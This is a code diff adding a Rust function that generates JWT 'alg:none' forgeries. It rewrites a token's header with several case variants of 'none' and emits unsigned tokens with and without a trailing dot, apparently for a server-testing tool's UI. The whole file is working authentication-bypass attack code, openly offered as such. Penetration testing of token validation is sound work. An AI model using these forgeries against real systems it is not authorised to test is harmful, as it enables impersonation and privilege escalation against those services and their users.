@@ -0,0 +1,37 @@
+use anyhow::Result;
+use base64::URL_SAFE_NO_PAD;
+
+use crate::JwtHeader;
+
+/// Case variants of the literal `none` that different JWT libraries have
+/// been found to accept for the unsigned `alg:none` bypass.
+const CASE_VARIANTS: &[&str] = &["none", "None", "NONE", "nOnE"];
+
+/// Produces a batch of `alg:none` forgeries for testing servers that
+/// mishandle unsigned tokens.
+///
+/// Some JWT libraries only reject the lowercase `none`, or require (or
+/// forbid) a trailing dot before the empty signature, so this enumerates
+/// both per case variant rather than emitting a single guess. The result is
+/// a `(variant label, token)` pair per attempt so the UI can list them all.
+pub fn generate_none_tokens(header: &JwtHeader, payload_b64: &str) -> Result<Vec<(String, String)>> {
+    let mut tokens = Vec::with_capacity(CASE_VARIANTS.len() * 2);
+
+    for &alg in CASE_VARIANTS {
+        let mut forged_header = header.clone();
+        forged_header.alg = alg.to_string();
+        let header_json = serde_json::to_vec(&forged_header)?;
+        let header_b64 = base64::encode_config(header_json, URL_SAFE_NO_PAD);
+
+        tokens.push((
+            format!("alg={} (trailing dot)", alg),
+            format!("{}.{}.", header_b64, payload_b64),
+        ));
+        tokens.push((
+            format!("alg={} (no trailing dot)", alg),
+            format!("{}.{}", header_b64, payload_b64),
+        ));
+    }
+
+    Ok(tokens)
+}